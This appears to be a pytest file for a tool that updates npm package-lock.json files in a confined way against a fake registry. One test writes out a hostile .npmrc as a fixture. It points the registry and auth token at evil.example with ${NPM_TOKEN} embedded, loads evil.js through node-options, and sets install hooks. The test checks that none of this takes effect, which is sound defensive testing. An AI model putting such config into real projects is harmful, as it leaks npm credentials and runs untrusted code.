"""Updates of package-lock.json by npm itself, confined, against a registry of our own."""

import json
from pathlib import Path
from typing import Any

import pytest

from muniment.programs.process import ProcessResult
from muniment.updates.advisory_index import AdvisoryIndex
from muniment.updates.lock_updates import LockUpdate, UpdateRefusal, UpdateSettings, update_lock
from muniment.updates.npm_locks import parse_npm_lock
from muniment.updates.npm_resolver import NpmResolver
from tests.support.advisory_exports import read_advisory
from tests.support.registries import EARLY, FakeNpmRegistry
from tests.support.resolvers import LATER, make_npm_lock


@pytest.fixture
def registry() -> FakeNpmRegistry:
    """express 4.0.0 requires qs ^6.0.0; each has an old and several new releases."""
    made = FakeNpmRegistry()
    made.publish("express", "4.0.0", dependencies={"qs": "^6.0.0", "ms": "1.0.0"}, uploaded=EARLY, license="MIT")
    made.publish("qs", "6.0.0", uploaded=EARLY)
    made.publish("ms", "1.0.0", uploaded=EARLY)
    made.publish("ms", "1.0.1")
    for version in ("6.0.1", "6.1.0-rc.1", "6.1.0", "7.0.0"):
        made.publish("qs", version)
    made.publish("express", "4.1.0", dependencies={"qs": "^6.0.0", "ms": "1.0.0"})
    return made


def write_manifest(more: dict[str, Any] | None = None, **dependencies: str) -> dict[str, bytes]:
    document = {"name": "shop", "version": "1.0.0", "dependencies": dependencies, **(more or {})}
    return {"package.json": json.dumps(document).encode()}


def lock_early(registry: FakeNpmRegistry, files: dict[str, bytes]) -> bytes:
    registry.until = EARLY
    content = make_npm_lock(registry, files)
    registry.until = ""
    registry.requests.clear()
    return content


def fixed(package: str, *versions: str, **more: Any) -> Any:
    events = [{"introduced": "0"}, *({"fixed": each} for each in versions)]
    return read_advisory(f"A-{package}", package, ecosystem="npm", events=events, **more)


def update(
    registry: Any, files: dict[str, bytes], content: bytes, *advisories: Any
) -> LockUpdate | UpdateRefusal | None:
    settings = UpdateSettings(AdvisoryIndex(advisories), registry, LATER)
    return update_lock(parse_npm_lock("package-lock.json", content, {}), content, files, settings)


def moves(result: LockUpdate | UpdateRefusal | None) -> dict[str, tuple[tuple[str, ...], tuple[str, ...]]]:
    assert isinstance(result, LockUpdate), result
    return {each.name: (each.before, each.after) for each in result.moves}


def test_a_transitive_package_moves_to_the_smallest_safe_version_and_stays_transitive(
    registry: FakeNpmRegistry,
) -> None:
    files = write_manifest(express="^4.0.0")
    before = lock_early(registry, files)
    result = update(registry, files, before, fixed("qs", "6.0.1"))
    assert moves(result) == {"qs": (("6.0.0",), ("6.0.1",))}
    assert isinstance(result, LockUpdate)
    old, new = (json.loads(each) for each in (before, result.content))
    changed = {folder for folder in new["packages"] if new["packages"][folder] != old["packages"].get(folder)}
    assert changed == {"node_modules/qs"}
    assert new["packages"]["node_modules/qs"]["resolved"] == "https://registry.npmjs.org/qs/-/qs-6.0.1.tgz"
    assert result.content.splitlines()[:6] == before.splitlines()[:6]


def test_a_parent_moves_where_its_range_excludes_every_safe_version(registry: FakeNpmRegistry) -> None:
    registry.publish("web", "1.0.0", dependencies={"qs": "6.0.0"}, uploaded=EARLY)
    for version, wanted in (("1.1.0", "6.0.0"), ("1.2.0", "^6.0.1"), ("1.3.0", "^6.1.0")):
        registry.publish("web", version, dependencies={"qs": wanted})
    files = write_manifest(web="^1.0.0")
    before = lock_early(registry, files)
    assert moves(update(registry, files, before, fixed("qs", "6.0.1"))) == {
        "qs": (("6.0.0",), ("6.0.1",)),
        "web": (("1.0.0",), ("1.2.0",)),
    }


def test_each_of_two_versions_moves_within_its_own_range(registry: FakeNpmRegistry) -> None:
    registry.publish("qs", "5.0.0", uploaded=EARLY)
    registry.publish("qs", "5.0.1")
    registry.publish("old", "1.0.0", dependencies={"qs": "^5.0.0"}, uploaded=EARLY)
    files = write_manifest(qs="6.0.0 - 6.0.1", old="1.0.0")
    before = lock_early(registry, files)
    document = json.loads(before)
    document["packages"]["node_modules/old/node_modules/qs"] = {
        **document["packages"]["node_modules/qs"],
        "version": "5.0.0",
        "resolved": "https://registry.npmjs.org/qs/-/qs-5.0.0.tgz",
        "integrity": registry.packages["qs"]["5.0.0"]["dist"]["integrity"],
    }
    document["packages"] = dict(sorted(document["packages"].items()))
    before = (json.dumps(document, indent=2) + "\n").encode()
    advisory = read_advisory(
        "A-1",
        "qs",
        ecosystem="npm",
        events=[{"introduced": "0"}, {"fixed": "5.0.1"}, {"introduced": "6.0.0"}, {"fixed": "6.0.1"}],
    )
    assert moves(update(registry, files, before, advisory)) == {"qs": (("5.0.0", "6.0.0"), ("5.0.1", "6.0.1"))}


def test_a_manifest_that_excludes_every_safe_version_is_named_and_kept(registry: FakeNpmRegistry) -> None:
    files = write_manifest(qs="6.0.0")
    before = lock_early(registry, files)
    result = update(registry, files, before, fixed("qs", "6.0.1"))
    assert isinstance(result, UpdateRefusal)
    assert "No matching version found for qs@6.0.0" in result.staying[0].reason


def test_a_workspace_keeps_its_members_and_legacy_peer_dependencies(registry: FakeNpmRegistry) -> None:
    registry.publish("plugin", "1.0.0", peerDependencies={"ms": "^9.0.0"}, uploaded=EARLY)
    files = write_manifest({"workspaces": ["packages/*"]}, plugin="1.0.0", ms="1.0.0")
    member = {"name": "api", "version": "1.0.0", "dependencies": {"express": "^4.0.0"}}
    files |= {"packages/api/package.json": json.dumps(member).encode(), ".npmrc": b"legacy-peer-deps=true\n"}
    before = lock_early(registry, files)
    result = update(registry, files, before, fixed("qs", "6.0.1"))
    assert moves(result) == {"qs": (("6.0.0",), ("6.0.1",))}
    assert isinstance(result, LockUpdate)
    packages = json.loads(result.content)["packages"]
    assert packages["node_modules/api"] == {"resolved": "packages/api", "link": True}
    assert packages["packages/api"]["dependencies"] == {"express": "^4.0.0"}


def test_settings_and_scripts_of_the_repository_have_no_effect(
    registry: FakeNpmRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ran = tmp_path / "ran"
    monkeypatch.setenv("NPM_TOKEN", "credential")
    files = write_manifest(express="^4.0.0")
    before = lock_early(registry, files)
    scripts = dict.fromkeys(("preinstall", "install", "postinstall", "prepare"), f"touch {ran}")
    files = write_manifest({"scripts": scripts}, express="^4.0.0")
    files[".npmrc"] = (
        b"registry=https://evil.example/${NPM_TOKEN}/\n//evil.example/:_authToken=${NPM_TOKEN}\nscript-shell=/bin/sh\n"
        b"@own:registry=https://evil.example/\nnode-options=--require ./evil.js\nignore-scripts=false\ngit=./evil\n"
    )
    files["evil.js"] = f"require('fs').writeFileSync({str(ran)!r}, 'x')".encode()
    result = update(registry, files, before, fixed("qs", "6.0.1"))
    assert moves(result) == {"qs": (("6.0.0",), ("6.0.1",))}
    assert not ran.exists()
    assert {request.partition("/")[0] for request in registry.requests} == {"registry.npmjs.org"}


def test_a_lock_that_is_not_that_of_its_manifests_is_refused(registry: FakeNpmRegistry) -> None:
    before = lock_early(registry, write_manifest(express="^4.0.0"))
    result = update(registry, write_manifest(ms="1.0.1"), before, fixed("qs", "6.0.1"))
    assert isinstance(result, UpdateRefusal)
    assert "not that of its manifests" in result.reason


@pytest.mark.parametrize("status", [404, 500])
def test_a_registry_that_does_not_answer_is_a_refusal(registry: FakeNpmRegistry, status: int) -> None:
    files = write_manifest(express="^4.0.0")
    before = lock_early(registry, files)
    registry.status = status
    result = update(registry, files, before, fixed("qs", "6.0.1"))
    assert isinstance(result, UpdateRefusal)
    assert [each.name for each in result.staying] == ["qs"]


def test_a_name_that_the_lock_has_from_elsewhere_is_not_looked_up(registry: FakeNpmRegistry) -> None:
    files = write_manifest(express="^4.0.0")
    before = lock_early(registry, files).replace(b"https://registry.npmjs.org/qs/", b"https://npm.example.com/qs/")
    result = update(registry, files, before, fixed("qs", "6.0.1"))
    assert isinstance(result, UpdateRefusal)
    assert not any("registry.npmjs.org/qs" in request for request in registry.requests)


def test_npm_is_not_started_for_versions_that_no_parent_admits(
    registry: FakeNpmRegistry, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Six parents, each of which admits the safe version in its fourth release alone."""
    names = [f"parent-{number}" for number in range(6)]
    for name in names:
        registry.publish(name, "1.0.0", dependencies={"deep": "^1.0.0"}, uploaded=EARLY)
        for minor in (1, 2):
            registry.publish(name, f"1.{minor}.0", dependencies={"deep": f"^1.0.{minor}"})
        registry.publish(name, "1.3.0", dependencies={"deep": "^2.0.0"})
    registry.publish("deep", "1.0.0", uploaded=EARLY)
    registry.publish("deep", "2.0.0")
    files = write_manifest({"dependencies": dict.fromkeys(names, "^1.0.0")})
    before = lock_early(registry, files)
    starts: list[int] = []
    run = NpmResolver.run_npm

    def count_starts(resolver: NpmResolver) -> ProcessResult:
        starts.append(1)
        return run(resolver)

    monkeypatch.setattr(NpmResolver, "run_npm", count_starts)
    result = update(registry, files, before, fixed("deep", "2.0.0"))
    assert moves(result) == {
        "deep": (("1.0.0",), ("2.0.0",)),
        **dict.fromkeys(names, (("1.0.0",), ("1.3.0",))),
    }
    assert len(starts) <= 4, "npm was started for versions that ranges exclude"
